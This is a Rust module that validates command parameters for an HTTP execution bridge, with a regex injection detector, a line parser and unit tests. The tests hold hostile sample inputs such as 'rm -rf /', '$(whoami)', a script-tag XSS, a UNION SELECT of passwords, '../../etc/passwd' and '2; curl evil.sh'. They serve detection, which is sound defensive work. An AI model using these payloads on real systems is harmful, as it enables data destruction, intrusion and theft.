//! Per-command parameter checks and the `COMMAND_TYPE key=value` line format.
//!
//! The checks here are advisory for `/v1/validate` and mandatory for the
//! HTTP execution bridge, which refuses to dispatch a command that fails them.

use std::sync::OnceLock;

use regex::Regex;
use serde_json::Value;

use crate::error::ValidationError;
use crate::types::{
    CommandType, Params, CHECK_INTEGRATION_STATUS, CONNECT_INTEGRATION, REFRESH_TOKEN, SCAN_SITE,
    START_CAMPAIGN,
};

/// Integrations the bridge knows how to talk to.
pub const KNOWN_SERVICES: &[&str] = &[
    "meta_lead_ads",
    "linkedin",
    "mailchimp",
    "squarespace_commerce",
];

/// Longest parameter value the bridge will forward.
pub const MAX_VALUE_LEN: usize = 1000;

fn injection_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?i)[;|&$`]|<script|union\s+select|\.\./").unwrap())
}

/// False for values carrying shell metacharacters, script tags, SQL union
/// selects or path traversal, and for values over [`MAX_VALUE_LEN`] chars.
pub fn is_safe_value(value: &str) -> bool {
    !injection_re().is_match(value) && value.chars().count() <= MAX_VALUE_LEN
}

fn str_param<'a>(params: &'a Params, key: &str) -> Option<&'a str> {
    params.get(key).and_then(|v| v.as_str())
}

fn is_valid_domain(domain: &str) -> bool {
    domain.contains('.') && domain.len() > 3
}

fn is_valid_campaign_id(id: &str) -> bool {
    id.len() >= 3
}

fn is_known_service(service: &str) -> bool {
    KNOWN_SERVICES.contains(&service)
}

/// Return every parameter violation for `command_type`. Unknown command
/// types have no required parameters, but every value must still be safe.
pub fn check_params(command_type: &CommandType, params: &Params) -> Vec<String> {
    let mut violations = Vec::new();
    match command_type.as_str() {
        SCAN_SITE => match str_param(params, "domain") {
            None => violations.push("missing domain parameter".to_string()),
            Some(d) if !is_valid_domain(d) => {
                violations.push(format!("invalid domain format: '{d}'"))
            }
            Some(_) => {}
        },
        START_CAMPAIGN => match str_param(params, "campaign_id") {
            None => violations.push("missing campaign_id parameter".to_string()),
            Some(id) if !is_valid_campaign_id(id) => {
                violations.push(format!("invalid campaign_id format: '{id}'"))
            }
            Some(_) => {}
        },
        CHECK_INTEGRATION_STATUS | REFRESH_TOKEN => match str_param(params, "service") {
            None => violations.push("missing service parameter".to_string()),
            Some(s) if !is_known_service(s) => {
                violations.push(format!("invalid service name: '{s}'"))
            }
            Some(_) => {}
        },
        CONNECT_INTEGRATION => {
            if str_param(params, "service").is_none() {
                violations.push("missing service parameter".to_string());
            }
        }
        _ => {}
    }

    for (key, value) in params {
        let safe = match value {
            Value::String(s) => is_safe_value(s),
            other => is_safe_value(&other.to_string()),
        };
        if !safe {
            violations.push(format!("unsafe value in parameter '{key}'"));
        }
    }
    violations
}

/// A command parsed from a text line, before an action id is assigned.
#[derive(Debug, Clone, PartialEq)]
pub struct ParsedLine {
    pub command_type: CommandType,
    pub params: Params,
}

/// Parse `COMMAND_TYPE key=value key=value`.
///
/// Returns `Ok(None)` for blank lines and `#` comments. The command name is
/// upper-cased; tokens without `=` are ignored.
pub fn parse_command_line(line: &str) -> Result<Option<ParsedLine>, ValidationError> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return Ok(None);
    }
    let mut parts = line.split_whitespace();
    let Some(name) = parts.next() else {
        return Err(ValidationError::MalformedLine("no command found".into()));
    };
    let command_type = CommandType::new(name.to_ascii_uppercase())?;

    let mut params = Params::new();
    for part in parts {
        if let Some((key, value)) = part.split_once('=') {
            let key = key.trim();
            if key.is_empty() {
                return Err(ValidationError::MalformedLine(format!(
                    "parameter without a name: '{part}'"
                )));
            }
            params.insert(
                key.to_string(),
                serde_json::Value::String(value.trim().to_string()),
            );
        }
    }
    Ok(Some(ParsedLine {
        command_type,
        params,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn ct(name: &str) -> CommandType {
        CommandType::new(name).unwrap()
    }

    fn params(v: serde_json::Value) -> Params {
        v.as_object().cloned().unwrap()
    }

    #[test]
    fn scan_site_requires_plausible_domain() {
        assert!(check_params(&ct(SCAN_SITE), &params(json!({"domain": "example.com"}))).is_empty());
        let v = check_params(&ct(SCAN_SITE), &params(json!({"domain": "abc"})));
        assert_eq!(v.len(), 1);
        assert!(v[0].contains("invalid domain"));
        let v = check_params(&ct(SCAN_SITE), &Params::new());
        assert_eq!(v, vec!["missing domain parameter".to_string()]);
    }

    #[test]
    fn refresh_token_requires_known_service() {
        assert!(check_params(&ct(REFRESH_TOKEN), &params(json!({"service": "linkedin"}))).is_empty());
        let v = check_params(&ct(REFRESH_TOKEN), &params(json!({"service": "myspace"})));
        assert!(v[0].contains("invalid service name"));
    }

    #[test]
    fn connect_integration_accepts_any_service_name() {
        let v = check_params(
            &ct(CONNECT_INTEGRATION),
            &params(json!({"service": "salesforce"})),
        );
        assert!(v.is_empty());
    }

    #[test]
    fn campaign_id_needs_three_chars() {
        let v = check_params(&ct(START_CAMPAIGN), &params(json!({"campaign_id": "ab"})));
        assert_eq!(v.len(), 1);
    }

    #[test]
    fn unknown_type_has_no_contract() {
        assert!(check_params(&ct("ROTATE_KEYS"), &Params::new()).is_empty());
    }

    #[test]
    fn injection_patterns_are_unsafe() {
        for bad in [
            "example.com; rm -rf /",
            "a | b",
            "a && b",
            "$(whoami)",
            "`id`",
            "<SCRIPT>alert(1)</script>",
            "1 UNION   SELECT password FROM users",
            "../../etc/passwd",
        ] {
            assert!(!is_safe_value(bad), "{bad}");
        }
        assert!(is_safe_value("summer-2024_launch"));
        assert!(is_safe_value("https://example.com/path?x=1"));
    }

    #[test]
    fn overlong_value_is_unsafe() {
        assert!(is_safe_value(&"a".repeat(MAX_VALUE_LEN)));
        assert!(!is_safe_value(&"a".repeat(MAX_VALUE_LEN + 1)));
    }

    #[test]
    fn unsafe_value_is_a_violation_for_every_type() {
        let v = check_params(
            &ct(SCAN_SITE),
            &params(json!({"domain": "example.com", "depth": "2; curl evil.sh"})),
        );
        assert_eq!(v, vec!["unsafe value in parameter 'depth'".to_string()]);

        let v = check_params(&ct("ROTATE_KEYS"), &params(json!({"path": "../secrets"})));
        assert_eq!(v.len(), 1);

        let v = check_params(
            &ct("ROTATE_KEYS"),
            &params(json!({"nested": {"cmd": "a|b"}})),
        );
        assert_eq!(v.len(), 1);
    }

    #[test]
    fn parse_line_with_params() {
        let parsed = parse_command_line("scan_site domain=example.com depth=2")
            .unwrap()
            .unwrap();
        assert_eq!(parsed.command_type.as_str(), SCAN_SITE);
        assert_eq!(parsed.params["domain"], "example.com");
        assert_eq!(parsed.params["depth"], "2");
    }

    #[test]
    fn parse_line_skips_comments_and_blanks() {
        assert_eq!(parse_command_line("# a comment").unwrap(), None);
        assert_eq!(parse_command_line("   ").unwrap(), None);
    }

    #[test]
    fn parse_line_rejects_bad_command_name() {
        assert!(parse_command_line("SCAN-SITE domain=x.com").is_err());
        assert!(parse_command_line("SCAN_SITE =x.com").is_err());
    }
}
